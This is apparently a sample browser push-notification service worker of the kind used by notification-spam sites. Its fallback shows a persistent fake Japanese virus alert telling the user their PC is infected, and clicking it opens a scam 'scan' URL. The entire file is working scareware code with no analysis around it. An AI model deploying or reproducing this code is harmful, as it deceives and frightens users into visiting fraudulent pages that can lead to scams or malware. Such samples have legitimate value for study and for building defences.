// push service worker as used by notification-spam landers: shows whatever the push network sends
self.addEventListener('push',function(e){var d={};try{d=e.data.json();}catch(x){d={title:'セキュリティ警告',body:'お使いのPCがウイルスに感染しています。今すぐスキャンしてください。',url:'https://scan.example-alert.top/'};}
e.waitUntil(self.registration.showNotification(d.title,{body:d.body,icon:d.icon,data:d.url,requireInteraction:true}));});
self.addEventListener('notificationclick',function(e){e.notification.close();e.waitUntil(clients.openWindow(e.notification.data));});
